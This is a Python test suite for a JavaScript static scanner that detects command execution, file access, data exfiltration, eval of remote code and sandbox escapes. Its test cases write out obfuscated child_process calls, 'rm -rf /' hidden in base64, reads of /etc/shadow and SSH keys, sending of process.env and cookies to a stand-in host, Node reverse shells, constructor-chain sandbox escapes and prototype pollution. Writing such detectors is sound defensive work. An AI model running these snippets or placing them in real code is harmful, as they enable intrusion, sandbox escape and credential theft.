"""What JavaScript would do is told from its text: through names, parts, encodings, calls, and the ways out of a sandbox."""

from __future__ import annotations

import base64
from contextlib import suppress
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ringfence.scanning import Capability, Effect, Kind, Language, Origin, Trait, scan
from ringfence.scanning.effects import HOLE, Budget, Unscannable
from ringfence.scanning.javascript import javascript_effects
from ringfence.scanning.javascript.tree import MOST_DEEP
from ringfence.threat import ThreatLevel


def effects(source: str) -> list[Effect]:
    """Return the effects of a source."""
    return list(javascript_effects(source, Budget(len(source))))


def done(source: str, kind: Kind) -> set[str]:
    """Return to what a source does a kind of thing."""
    return {effect.value for effect in effects(source) if effect.kind is kind}


def only(source: str, kind: Kind) -> Effect:
    """Return the one effect of a kind."""
    (found,) = [effect for effect in effects(source) if effect.kind is kind]
    return found


def blocking(source: str) -> set[str]:
    """Return the rules that block a source at the usual level."""
    report = scan(source, "javascript")
    assert report.problem is None, report.problem
    return {finding.rule for finding in report.findings if finding.level >= ThreatLevel.HIGH}


@pytest.mark.parametrize(
    "source",
    [
        "require('child_process').execSync('id')",
        "require(`node:child_process`).execSync(`id`)",
        "const cp = require('child_process'); cp['execSync']('id')",
        "const {execSync} = require('child_process'); execSync('id')",
        "const {execSync: run} = require('child_process'); run('id')",
        "let run; ({execSync: run} = require('child_process')); run('id')",
        "import cp from 'child_process'; cp.execSync('id')",
        "import * as cp from 'node:child_process'; cp.execSync('id')",
        "import {execSync as run} from 'child_process'; run('id')",
        "const {execSync} = await import('child_process'); execSync('id')",
        "import('child_process').then(m => m.execSync('id'))",
        "import('child_process').then(({default: cp}) => cp.execSync('id'))",
        "require('child' + '_' + 'process').execSync('id')",
        "require(['child', 'process'].join('_'))['exec' + 'Sync']('id')",
        "require('ssecorp_dlihc'.split('').reverse().join('')).execSync('id')",
        "require('child_procesz'.replace('z', 's')).execSync('id')",
        "require('CHILD_PROCESS'.toLowerCase()).execSync('id')",
        "require(atob('Y2hpbGRfcHJvY2Vzcw==')).execSync('id')",
        "require(Buffer.from('6368696c645f70726f63657373', 'hex').toString()).execSync('id')",
        "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw', 'base64').toString('utf8')).execSync('id')",
        "require(decodeURIComponent('%63hild_process')).execSync('id')",
        "require('\\x63hild_\\u0070rocess').execSync('id')",
        "require('child_process').\\u0065xecSync('id')",
        "require('child_process').execSync(String.fromCharCode(105, 100))",
        "require('child_process').execSync([105, 100].map(c => String.fromCharCode(c)).join(''))",
        "require('child_process').execSync([104, 101].map(c => String.fromCharCode(c ^ 1)).join(''))",
        "let c = 'i'; c += 'd'; require('child_process').execSync(c)",
        "let c = ''; for (const x of y) {} c = c + 'id'; require('child_process').execSync('id')",
        "const {a: {b: [, c]}} = {a: {b: [0, 'id']}}; require('child_process').execSync(c)",
        "const o = {}; o.run = require('child_process').execSync; o.run('id')",
        "const o = {}; o['r' + 'un'] = require('child_process').execSync; o.run('id')",
        "const o = {get cp() { return require('child_process') }}; o.cp.execSync('id')",
        "const t = {...require('child_process')}; const o = {...{c: 'id'}}; require('child_process').execSync(o.c)",
        "const r = require; const m = x => r(x); m('child_process').execSync('id')",
        "(function (m) { return m })(require('child_process')).execSync('id')",
        "((r, n, f, c) => r(n)[f](c))(require, 'child_process', 'execSync', 'id')",
        "function run(command) { require('child_process').execSync(command) } run('id')",
        "const run = (f, ...rest) => f(...rest); run(require('child_process').execSync, 'id')",
        "function go({command = 'id'} = {}) { require('child_process').execSync(command) } go()",
        "class R { constructor(c) { this.c = c } go() { require('child_process').execSync(this.c) } } new R('id').go()",
        "class R { static c = 'id' } require('child_process').execSync(R.c)",
        "const o = {c: 'id', go() { require('child_process').execSync(this.c) }}; o.go()",
        (
            "const names = ['child_process', 'execSync', 'id'];"
            " function n(i) { i = i - 3; return names[i] } require(n(3))[n(4)](n(5))"
        ),
        "require('child_process').execSync.call(null, 'id')",
        "require('child_process').execSync.apply(null, ['id'])",
        "require('child_process').execSync.bind(null, 'id')()",
        "Reflect.apply(require('child_process').execSync, null, ['id'])",
        "Function.prototype.call.call(require('child_process').execSync, null, 'id')",
        "Reflect.get(require('child_process'), 'execSync')('id')",
        "(0, require('child_process').execSync)('id')",
        "require('child_process')?.execSync?.('id')",
        "['id'].forEach(require('child_process').execSync)",
        "Promise.resolve('id').then(require('child_process').execSync)",
        "for (const c of ['id']) require('child_process').execSync(c)",
        "process.mainModule.require('child_process').execSync('id')",
        "module.constructor._load('child_process').execSync('id')",
        "require('module').createRequire(__filename)('child_process').execSync('id')",
        "process.getBuiltinModule('child_process').execSync('id')",
        "globalThis.process.mainModule['req' + 'uire']('child_process').execSync('id')",
    ],
)
def test_one_command_however_it_is_reached(source: str) -> None:
    """The same command is run, whatever way leads to the function and to the text."""
    assert ("child_process.execSync", "id") in {
        (effect.name, effect.value) for effect in effects(source) if effect.kind is Kind.RUN
    }


@pytest.mark.parametrize(
    ("source", "command"),
    [
        ("cp.exec('ls -a | wc')", "ls -a | wc"),
        ("cp.spawn('ls', ['-a', 'my file'])", "ls -a 'my file'"),
        ("cp.spawn('echo $HOME', {shell: true})", "echo $HOME"),
        ("cp.execFile('/bin/ls', ['-a'], () => {})", "/bin/ls -a"),
        ("cp.fork('./worker.js')", "node ./worker.js"),
        ("cp.spawn(process.execPath, ['-e', '1'])", "node -e 1"),
        ("const util = require('util'); util.promisify(cp.exec)('ls')", "ls"),
        ("require('shelljs').exec('ls')", "ls"),
        ("const {execa} = require('execa'); execa('ls', ['-a'])", "ls -a"),
        ("import {$} from 'zx'; await $`ls -a`", "ls -a"),
        ("Bun.spawn(['ls', '-a'])", "ls -a"),
        ("new Deno.Command('ls', {args: ['-a']})", "ls -a"),
    ],
)
def test_command_lines(source: str, command: str) -> None:
    """A program and its arguments become the line that a shell would be given."""
    assert done(f"const cp = require('child_process'); {source}", Kind.RUN) == {command}


def test_code_within_code_is_followed() -> None:
    """A shell command within JavaScript within a text is found at the place of the outer one."""
    inner = "require('child_process').exec('rm -rf /')"
    encoded = base64.b64encode(inner.encode()).decode()
    report = scan(f"\n\n  eval(Buffer.from('{encoded}', 'base64').toString())", "javascript")
    worst = report.findings[0]
    assert worst.level is ThreatLevel.CRITICAL
    assert (worst.line, worst.column) == (3, 2)


@pytest.mark.parametrize(
    ("source", "kind", "value"),
    [
        ("fs.readFileSync('a.txt')", Kind.READ, "a.txt"),
        ("fs.promises.readFile('a.txt')", Kind.READ, "a.txt"),
        ("require('node:fs/promises').readFile('a.txt')", Kind.READ, "a.txt"),
        ("require('fs-extra').readJson('a.txt')", Kind.READ, "a.txt"),
        ("fs.createReadStream('a.txt')", Kind.READ, "a.txt"),
        ("fs.readFile(new URL('file:///etc/shadow'), f)", Kind.READ, "/etc/shadow"),
        ("fs.readFileSync(path.join(__dirname, '..', 'a.txt'))", Kind.READ, "../a.txt"),
        ("fs.readFileSync(path.resolve('x', '/etc', 'passwd'))", Kind.READ, "/etc/passwd"),
        ("fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`)", Kind.READ, "~/.ssh/id_rsa"),
        ("fs.readFileSync(process.env.HOME + '/.npmrc')", Kind.READ, "~/.npmrc"),
        ("fs.readFileSync('/etc/' + x)", Kind.READ, f"/etc/{HOLE}"),
        ("fs.writeFileSync('a.txt', 'x')", Kind.WRITE, "a.txt"),
        ("fs.createWriteStream('a.txt')", Kind.WRITE, "a.txt"),
        ("fs.openSync('a.txt', 'w')", Kind.WRITE, "a.txt"),
        ("fs.openSync('a.txt')", Kind.READ, "a.txt"),
        ("fs.copyFileSync('b.txt', 'a.txt')", Kind.WRITE, "a.txt"),
        ("fs.renameSync('a.txt', 'b.txt')", Kind.DELETE, "a.txt"),
        ("fs.unlink('a.txt', f)", Kind.DELETE, "a.txt"),
        ("require('rimraf').sync('a.txt')", Kind.DELETE, "a.txt"),
        ("fs.readdirSync('a.txt')", Kind.LIST, "a.txt"),
        ("fs.chmodSync('a.txt', 0o644)", Kind.PERMIT, "a.txt"),
        ("Deno.readTextFile('a.txt')", Kind.READ, "a.txt"),
        ("Bun.write('a.txt', 'x')", Kind.WRITE, "a.txt"),
    ],
)
def test_files(source: str, kind: Kind, value: str) -> None:
    """Files are read, written and deleted under paths that are put together."""
    modules = "const fs = require('fs'), path = require('path'), os = require('os'); "
    assert value in done(modules + source, kind)


@pytest.mark.parametrize(
    ("source", "kind", "traits"),
    [
        ("fs.rmSync('a', {recursive: true, force: true})", Kind.DELETE, {Trait.RECURSIVE, Trait.FORCE}),
        ("fs.appendFileSync('a', 'x')", Kind.WRITE, {Trait.APPEND}),
        ("fs.writeFileSync('a', 'x', {flag: 'a'})", Kind.WRITE, {Trait.APPEND}),
        ("fs.chmodSync('a', 0o4777)", Kind.PERMIT, {Trait.SETUID, Trait.OPEN_TO_ALL, Trait.EXECUTABLE}),
        ("fs.chmodSync('a', '666')", Kind.PERMIT, {Trait.OPEN_TO_ALL}),
        ("fs.readFileSync(name)", Kind.READ, {Trait.UNRESOLVED}),
        ("require('child_process').exec(x)", Kind.RUN, {Trait.SHELL, Trait.UNRESOLVED}),
        ("require('child_process').spawn('/bin/sh', ['-i'])", Kind.RUN, {Trait.INTERACTIVE}),
        ("require('child_' + 'process').exec('ls')", Kind.RUN, {Trait.SHELL, Trait.CALCULATED}),
        ("require('http').createServer(f).listen(80)", Kind.LISTEN, {Trait.OPEN_TO_ALL}),
        ("require('http').createServer(f).listen(80, '127.0.0.1')", Kind.LISTEN, set()),
        ("https.get('https://a.example', {rejectUnauthorized: false})", Kind.CONNECT, {Trait.UNVERIFIED}),
        ("JSON.stringify(process.env)", Kind.ENVIRONMENT, {Trait.EVERYTHING}),
        ("process.kill(-1)", Kind.KILL, {Trait.EVERYTHING}),
        ("process.kill(process.ppid)", Kind.KILL, {Trait.OTHERS}),
    ],
)
def test_traits(source: str, kind: Kind, traits: set[Trait]) -> None:
    """What is special about an effect is told with it."""
    assert only(f"const fs = require('fs'), https = require('https'); {source}", kind).traits == traits


@pytest.mark.parametrize(
    ("source", "address"),
    [
        ("fetch('https://a.example/x')", "https://a.example/x"),
        ("fetch(new Request('https://a.example/x'))", "https://a.example/x"),
        ("require('node-fetch')('https://a.example/x')", "https://a.example/x"),
        ("require('axios').post('https://a.example/x', {})", "https://a.example/x"),
        ("require('axios')({method: 'get', url: 'https://a.example/x'})", "https://a.example/x"),
        ("require('https').get({hostname: 'a.example', path: '/x'})", "https://a.example/x"),
        ("require('http').request({host: 'a.example', port: 81, path: '/x'})", "http://a.example:81/x"),
        ("new (require('ws'))('wss://a.example/x')", "wss://a.example/x"),
        ("const r = new XMLHttpRequest(); r.open('GET', 'https://a.example/x')", "https://a.example/x"),
        ("require('net').connect(81, 'a.example')", "a.example:81"),
        ("require('net').connect({port: 81, host: 'a.example'})", "a.example:81"),
        ("const s = new (require('net').Socket)(); s.connect(81, 'a.example')", "a.example:81"),
        ("require('dns').resolve('a.example', f)", "a.example"),
        ("require('dgram').createSocket('udp4').send(b, 81, 'a.example')", "a.example:81"),
        ("import x from 'https://a.example/x'", "https://a.example/x"),
    ],
)
def test_addresses(source: str, address: str) -> None:
    """Addresses are told from URLs, options, hosts and ports."""
    assert address in done(source, Kind.CONNECT)


@pytest.mark.parametrize(
    ("source", "origin"),
    [
        (
            "fetch('https://a.example', {method: 'POST', body: JSON.stringify(process.env)})",
            Origin.CREDENTIALS,
        ),
        ("fetch('https://a.example', {method: 'POST', body: process.env.USER})", Origin.ENVIRONMENT),
        ("fetch('https://a.example/?u=' + os.hostname())", Origin.ENVIRONMENT),
        ("axios.post('https://a.example', {x: {y: fs.readFileSync('/etc/passwd')}})", Origin.SYSTEM),
        ("fs.readFile('/etc/passwd', (e, d) => axios.post('https://a.example', d))", Origin.SYSTEM),
        (
            "const r = https.request('https://a.example'); r.write(fs.readFileSync('b.txt')); r.end()",
            Origin.FILE,
        ),
        ("fs.createReadStream('/etc/passwd').pipe(net.connect(1, 'a.example'))", Origin.SYSTEM),
        (
            "const f = new FormData(); f.append('x', fs.readFileSync('b.txt')); axios.post('https://a.example', f)",
            Origin.FILE,
        ),
        ("const o = {}; o.x = fs.readFileSync('b.txt'); axios.post('https://a.example', o)", Origin.FILE),
        ("navigator.sendBeacon('https://a.example', document.cookie)", Origin.CREDENTIALS),
    ],
)
def test_what_is_sent(source: str, origin: Origin) -> None:
    """Data that goes out carries where it comes from."""
    modules = "const fs = require('fs'), os = require('os'), net = require('net'), https = require('https'), axios = require('axios'); "
    sent = [effect for effect in effects(modules + source) if Trait.SENDS in effect.traits]
    assert origin in {origin for effect in sent for origin in effect.origins}


def test_key_of_a_service_goes_to_the_service() -> None:
    """A header that exists to carry a key sends nothing that would be a secret to its receiver."""
    source = "fetch('https://a.example', {headers: {Authorization: `Bearer ${process.env.KEY}`}})"
    assert Trait.SENDS not in only(source, Kind.CONNECT).traits


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("eval('1 + 1')", "1 + 1"),
        ("(0, eval)('1 + 1')", "1 + 1"),
        ("globalThis['ev' + 'al']('1 + 1')", "1 + 1"),
        ("const e = window.eval; e('1 + 1')", "1 + 1"),
        ("new Function('a', '1 + 1')", "1 + 1"),
        ("(async () => {}).constructor('1 + 1')", "1 + 1"),
        ("new (Object.getPrototypeOf(async function () {}).constructor)('1 + 1')", "1 + 1"),
        ("require('vm').runInNewContext('1 + 1')", "1 + 1"),
        ("new (require('vm').Script)('1 + 1')", "1 + 1"),
        ("setTimeout('1 + 1', 10)", "1 + 1"),
        ("import('data:text/javascript,1%20+%201')", "1 + 1"),
        ("import('data:text/javascript;base64,MSArIDE=')", "1 + 1"),
        ("new Worker('1 + 1', {eval: true})", "1 + 1"),
        ("new Worker(URL.createObjectURL(new Blob(['1 + 1'])))", "1 + 1"),
        ("['1 + 1'].map(eval)", "1 + 1"),
        ("module._compile('1 + 1', 'x.js')", "1 + 1"),
    ],
)
def test_text_that_is_run(source: str, text: str) -> None:
    """Text that is run as code is told, whatever runs it."""
    assert text in done(source, Kind.EVALUATE)


@pytest.mark.parametrize(
    ("source", "origin"),
    [
        ("fetch('https://a.example').then(r => r.text()).then(eval)", Origin.NETWORK),
        ("fetch('https://a.example').then(r => r.text()).then(t => eval(t))", Origin.NETWORK),
        (
            "require('https').get('https://a.example', r => r.on('data', d => eval(d.toString())))",
            Origin.NETWORK,
        ),
        ("const s = require('net').connect(1, 'a'); s.on('data', d => eval(String(d)))", Origin.NETWORK),
        ("require('express')().get('/', (q, r) => eval(q.query.x))", Origin.NETWORK),
        ("eval(atob(x))", Origin.DECODED),
        ("eval(process.argv[2])", Origin.ARGUMENT),
        ("function run(text) { eval(text) }", Origin.ARGUMENT),
        ("eval(require('fs').readFileSync('x.js', 'utf8'))", Origin.FILE),
    ],
)
def test_where_text_that_is_run_comes_from(source: str, origin: Origin) -> None:
    """Text that cannot be told still tells where it comes from."""
    assert origin in only(source, Kind.EVALUATE).origins


@pytest.mark.parametrize(
    "source",
    [
        "this.constructor.constructor('return process')()",
        "({})['con' + 'structor'][`constructor`]('return process')()",
        "const {constructor: {constructor: F}} = {}; F('return process')()",
        "const E = err.constructor; const F = E.constructor; F('return process')()",
        "let c = 1; c = x.constructor; c.constructor('return process')()",
        "class A { m() { return this.constructor.constructor('return process')() } }",
        "try { f() } catch ({constructor: c}) { c.constructor('return process')() }",
        "(() => {}).constructor('return process')()",
        "f => f.constructor('return process')()",
        "Buffer.from.constructor('return process')()",
        "''['sub']['constructor']('return process')()",
        "[].filter.constructor`return process```",
        "constructor.constructor('return process')()",
        "import('x').constructor.constructor('return process')()",
        "Reflect.get(Reflect.get(x, 'constructor'), 'constructor')('return process')()",
        "Object.getOwnPropertyDescriptor(Object.getPrototypeOf(f), 'constructor').value('return process')()",
        "x.__proto__.constructor.constructor('return process')()",
        "Object.getPrototypeOf(function () {}).constructor('return process')()",
        "(function (k) { return ''[!k ? '__proto__' : 'constructor'][k] })('constructor')('return process')()",
        "Reflect.construct(Function, ['return process'])()",
        "({}).__lookupGetter__('__proto__').call(f).constructor('return process')()",
        "Object.prototype.get = function () {}",
        "Object.defineProperty(Object.prototype, 'set', {get() { return 1 }})",
        "Object.assign(Object.prototype, {shell: true})",
        "x.__proto__.polluted = true",
        "({}).constructor.prototype.polluted = true",
        "const {set} = WeakMap.prototype; WeakMap.prototype.set = function (v) { return set.call(this, v, v) }",
        "Object.create = (p, x) => p",
        "globalThis.Array = function () {}",
        "Object.__defineGetter__(Symbol.hasInstance, () => () => true)",
        "Object[Symbol.hasInstance].call = () => true",
        "Error.prepareStackTrace = (_, c) => c.map(c => c.getThis()); new Error().stack",
        "arguments.callee.caller.arguments[0]",
        "const e = new Error(); e.name = Symbol(); e.stack",
        "p.constructor = {[Symbol.species]: class { constructor(run) { run(a => a, b => b) } }}; p.then()",
        "new Proxy({}, {getPrototypeOf() { throw x => x }})",
        "new WebAssembly.Instance(m, {js: {tag: WebAssembly.JSTag}})",
        "process.binding('spawn_sync')",
        "const {mainModule} = process; mainModule.require('fs')",
        'merge({}, JSON.parse(\'{"__proto__": {"a": 1}}\'))',
        "with (Math) constructor.constructor('return process')()",
    ],
)
def test_ways_out_are_blocked(source: str) -> None:
    """Each mechanism that leads out of what code was given is found, however it is spelt."""
    assert any(rule.startswith("javascript-") for rule in blocking(source))


@pytest.mark.parametrize(
    "source",
    [
        (
            "var net = require('net'), sh = require('child_process').spawn('/bin/sh', []), c = new net.Socket();"
            " c.connect(4444, 'a.example', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })"
        ),
        (
            "const s = require('net').connect(4444, 'a.example');"
            " require('child_process').spawn('sh', [], {stdio: [s, s, s]})"
        ),
        (
            "require('net').createServer(s => { const sh = require('child_process').spawn('sh');"
            " s.pipe(sh.stdin); sh.stdout.pipe(s) }).listen(4444)"
        ),
    ],
)
def test_reverse_shells(source: str) -> None:
    """A connection that is wired to a shell is a bridge."""
    assert Kind.BRIDGE in {effect.kind for effect in effects(source)}


@pytest.mark.parametrize(
    ("source", "value"),
    [
        ("const a = []; while (true) a.push(new Array(1e6))", "memory"),
        ("for (;;) { require('child_process').fork('x.js') }", "processes"),
        ("while (1) { i++ }", "time"),
        ("Buffer.alloc(1e12)", "memory: 1000000000000 bytes"),
    ],
)
def test_loops_without_end(source: str, value: str) -> None:
    """A loop that nothing ends is told with what it uses up."""
    assert value in done(source, Kind.RESOURCE)


@pytest.mark.parametrize(
    "source",
    [
        "while (true) { if (f()) break }",
        "function* g() { while (true) yield 1 }",
        "while (true) { await sleep(1) }",
        "for (;;) { try { return f() } catch {} }",
        "while (running) { f() }",
    ],
)
def test_loops_with_a_way_out(source: str) -> None:
    """A loop that ends, pauses or gives something back is no resource taken."""
    assert not done(source, Kind.RESOURCE)


HONEST = sorted((Path(__file__).parent / "honest_javascript").glob("*.js"))


@pytest.mark.parametrize("path", [pytest.param(path, id=path.stem) for path in HONEST])
def test_honest_code_passes(path: Path) -> None:
    """Programs as people and models write them are not blocked."""
    assert blocking(path.read_text(encoding="utf-8")) == set()


def test_text_and_comments_are_data() -> None:
    """What only stands in a text, a comment or an expression is never run and never found."""
    source = """
    // require('child_process').exec('rm -rf /')
    /* x.constructor.constructor('return process')() */
    const help = "require('child_process').exec('rm -rf /')";
    const pattern = /constructor\\.constructor/;
    console.log(`eval(${help})`, pattern);
    """
    report = scan(source, "javascript")
    assert not report.findings
    assert not report.capabilities


def test_shadowed_names_are_not_the_language_s() -> None:
    """A name of the source's own hides the language's."""
    source = "function eval(x) { return x } const fs = {readFileSync: x => x}; eval('1'); fs.readFileSync('/etc/shadow')"
    assert not scan(source, "javascript").capabilities


def test_capabilities_and_facts() -> None:
    """A report tells what must be granted, and for what."""
    report = scan(
        "import fs from 'node:fs'; fs.writeFileSync('out.txt', await (await fetch('https://a.example/x')).text());"
        " console.log(process.env.LANG)",
        "javascript",
    )
    assert report.capabilities == {Capability.FILE_WRITE, Capability.NETWORK, Capability.ENVIRONMENT}
    assert report.facts.imports == ("fs",)
    assert report.facts.writes == ("out.txt",)
    assert report.facts.hosts == ("a.example",)
    assert report.facts.variables == ("LANG",)


def test_columns_are_characters() -> None:
    """A place counts characters, and not the bytes that they take."""
    effect = only("const s = '\u00fc\U0001f600';\n/* \u00e9\u00e9 */ eval(x)", Kind.EVALUATE)
    assert (effect.line, effect.column, effect.end_line, effect.end_column) == (2, 9, 2, 16)


@pytest.mark.parametrize(
    ("source", "problem", "line"),
    [
        ("let x = 1;\nlet = = 2;", "unparsed", 2),
        ("const x: number = 1", "unparsed", 1),
        ("if (a) {", "unparsed", 1),
        ("<!-- a\nb()", "unparsed", 1),
        ("x = " + "(" * 1000 + "1" + ")" * 1000, "too-deep", 1),
        ("x = " + "[" * 1000 + "]" * 1000, "too-deep", 1),
    ],
)
def test_what_is_not_understood_is_a_problem(source: str, problem: str, line: int) -> None:
    """A source that cannot be understood is refused with its line."""
    report = scan(source, "javascript")
    assert report.problem is not None
    assert (report.problem.kind, report.problem.line) == (problem, line)
    assert report.problem.message


@pytest.mark.parametrize(
    "source",
    [
        " + ".join(["'a'"] * 5000),
        "a" + ".b()" * 5000,
        "".join(f"var a{n + 1} = a{n};" for n in range(2000)) + "a2000('x')",
        "".join(f"var b{n + 1} = b{n} + b{n};" for n in range(60)) + "eval(b60)",
        "function f(a, b) { return f(b + a, a) + f(a, b + a) } eval(f('a', 'b'))",
        "".join(f"function f{n}(a) {{ return f{n + 1}(a + 'x') + f{n + 1}(a + 'y') }}" for n in range(40))
        + "eval(f0('q'))",
        "let a0 = [1];" + "".join(f"let a{n + 1} = [a{n}, a{n}];" for n in range(60)) + "eval(a60)",
        "if (a) {}" + " else if (b) {}" * 2000,
        "eval([" + "'x'," * 5000 + "].join(''))",
        "const o = {};" + "".join(f"o['k{n}'] = eval;" for n in range(1000)) + "o.k5('x')",
        "for (let a = b, b = a; ; a = b.c, b = a.c) { a(b) }",
        "let o = {...o, a: o.a}; o.a.a.a()",
    ],
)
def test_work_is_bounded(source: str) -> None:
    """Long chains, doubling texts, recursion and cycles end within the budget, with an answer or a problem."""
    report = scan(source, "javascript")
    assert report.problem is None or report.problem.kind in ("too-long", "too-deep")


def test_depth_is_bounded_but_length_is_not() -> None:
    """Operators and calls chain as long as one likes; what nests ends at the limit."""
    assert scan("x" + "[0]" * (MOST_DEEP * 4), "javascript").problem is None
    nested = scan("f(" * (MOST_DEEP + 1) + ")" * (MOST_DEEP + 1), "javascript").problem
    assert nested is not None
    assert nested.kind == "too-deep"


RESERVED = {"new", "for", "var", "let", "const", "try", "case", "else", "enum", "eval", "this", "true", "void", "with"} | {
    "await", "break", "catch", "class", "false", "super", "throw", "while", "yield", "null", "async", "require", "process",
    "global", "module", "return", "typeof", "delete", "export", "import", "static", "switch", "window", "default", "extends",
    "finally", "function", "package", "private", "public", "debugger", "continue", "instanceof", "interface", "implements",
    "protected", "atob", "unescape", "top", "self", "parent", "frames", "undefined",
}  # fmt: skip


NAMES = st.from_regex(r"[a-z_$][a-z0-9_$]{2,8}", fullmatch=True).filter(lambda name: name not in RESERVED)


def pieces(text: str, cuts: list[int]) -> list[str]:
    """Return a text cut into pieces."""
    places = sorted({0, len(text), *(cut % len(text) for cut in cuts)})
    return [text[start:end] for start, end in pairwise(places)]


@st.composite
def spelt(draw: st.DrawFn, text: str) -> str:
    """Return an expression that gives a text, written in one of many ways."""
    parts = pieces(text, draw(st.lists(st.integers(0, 50), max_size=3)))
    ways = (
        " + ".join(f"'{part}'" for part in parts),
        f"[{', '.join(repr(part) for part in parts)}].join('')",
        "`" + "".join(f"${{'{part}'}}" for part in parts) + "`",
        f"atob('{base64.b64encode(text.encode()).decode()}')",
        f"Buffer.from('{text.encode().hex()}', 'hex').toString()",
        f"String.fromCharCode({', '.join(str(ord(c)) for c in text)})",
        f"'{text[::-1]}'.split('').reverse().join('')",
        "'" + "".join(f"\\x{ord(c):02x}" for c in text) + "'",
        f"unescape('{''.join(f'%{ord(c):02x}' for c in text)}')",
    )
    return draw(st.sampled_from(ways))


@st.composite
def disguised(draw: st.DrawFn) -> str:
    """Return a source that runs the command `id` by ways and names of its own."""
    names = draw(st.lists(NAMES, min_size=6, max_size=6, unique=True))
    load, module, run, command, helper, other = names
    module_name, method, text = draw(spelt("child_process")), draw(spelt("execSync")), draw(spelt("id"))
    lines = [
        f"const {load} = {draw(st.sampled_from(['require', 'module.require', 'process.mainModule.require']))};",
        f"const {module} = {load}({module_name});",
        draw(
            st.sampled_from(
                [
                    f"const {run} = {module}[{method}];",
                    f"const {{[{method}]: {run}}} = {module};",
                    f"let {run}; {run} = {module}[{method}];",
                    f"const {other} = {{{helper}: {module}[{method}]}}; const {run} = {other}.{helper};",
                    f"const [{run}] = [{module}[{method}]];",
                    f"function {run}(x) {{ return {module}[{method}](x) }}",
                ]
            )
        ),
        f"const {command} = {text};",
        draw(
            st.sampled_from(
                [
                    f"{run}({command});",
                    f"({run})({command});",
                    f"(0, {run})({command});",
                    f"{run}.call(null, {command});",
                    f"{run}.apply(null, [{command}]);",
                    f"[{command}].forEach(x => {run}(x));",
                    f"(x => x({command}))({run});",
                    f"if (Math.random() > 2) {run}({command});",
                    f"setTimeout(() => {run}({command}), 10);",
                    f"(async () => {{ await {run}({command}) }})();",
                    f"try {{ throw 1 }} catch {{ {run}({command}) }}",
                ]
            )
        ),
    ]
    return draw(st.sampled_from(["\n", " ", "/* x */"])).join(lines)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(disguised())
def test_disguises_do_not_hide_a_command(source: str) -> None:
    """A planted command is found under other names, aliases, splits and encodings."""
    assert "id" in done(source, Kind.RUN)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_disguises_do_not_hide_a_way_out(data: st.DataObject) -> None:
    """A constructor's constructor is found however its name is written."""
    first, second = data.draw(spelt("constructor")), data.draw(spelt("constructor"))
    name, other = data.draw(st.lists(NAMES, min_size=2, max_size=2, unique=True))
    source = f"const {name} = {first}; const {other} = ({{}})[{name}]; {other}[{second}]('return process')()"
    assert "javascript-constructor-chain" in blocking(source)


@settings(max_examples=300, deadline=None)
@given(st.text() | st.text(alphabet="(){}[]`'\"$\\/*+-=<>!?.,;:&|^~ax10 \n\t\u2028\ud800"))
def test_arbitrary_text_never_raises(source: str) -> None:
    """Any text at all gives effects or an `Unscannable`."""
    with suppress(Unscannable):
        effects(source)


TOKENS = st.sampled_from(
    [
        "(",
        ")",
        "{",
        "}",
        "[",
        "]",
        ";",
        ",",
        ".",
        "...",
        "=>",
        "=",
        "+=",
        "?",
        ":",
        "?.",
        "&&",
        "||",
        "??",
        "!",
        "+",
        "-",
        "++",
        "`",
        "${",
        "'a'",
        "`b`",
        "1",
        "/x/",
        "x",
        "y",
        "f",
        "this",
        "super",
        "new",
        "class",
        "extends",
        "static",
        "get",
        "function",
        "return",
        "async",
        "await",
        "yield",
        "if",
        "else",
        "for",
        "of",
        "in",
        "while",
        "do",
        "try",
        "catch",
        "throw",
        "switch",
        "case",
        "let",
        "const",
        "var",
        "import",
        "from",
        "export",
        "default",
        "require",
        "eval",
        "constructor",
        "__proto__",
        "prototype",
        "Symbol",
        "Proxy",
        "Object",
        "process",
        "fs",
        "#",
        "@",
        "<a>",
        "</a>",
    ]
)


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(TOKENS, max_size=40))
def test_arbitrary_tokens_never_raise(tokens: list[str]) -> None:
    """Pieces of the language in any order give effects or an `Unscannable`."""
    with suppress(Unscannable):
        effects(" ".join(tokens))


def test_language_is_told_to_nested_sources() -> None:
    """A command within JavaScript is handed on as shell."""
    assert only("require('child_process').exec('ls')", Kind.RUN).nested == (Language.SHELL, "ls")
